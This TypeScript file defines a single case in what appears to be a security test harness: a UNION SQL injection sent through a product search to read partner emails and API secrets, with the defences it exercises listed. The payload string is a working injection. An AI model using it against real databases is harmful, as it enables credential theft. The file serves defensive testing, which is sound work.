import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { search, searchTwin } from "./shared/requests.ts";

export const sqliUnion: Attack = {
  id: "sqli-union",
  title: "Read partners' secrets through the catalogue (UNION SQL injection)",
  owasp: ["SAS-1", "CWE-89"],
  paper: "IV.1.B",
  defences: [
    "edge:sql-injection",
    "edge:patterns",
    "function:search-term",
    "function:prepared-statement",
    "database:grants",
  ],
  operation: "searchProducts",
  target: "catalog",
  run: async (context) => {
    const { apiSecret } = context.seed.globex;
    const answer = await context.send(search(context, "-' UNION SELECT 0,email,api_secret,0 FROM partners -- "));
    const effect = answer.response.body.includes(apiSecret);
    return { effect, evidence: effect ? `the search answers globex's secret, ${apiSecret}` : summary(answer) };
  },
  twin: searchTwin,
};
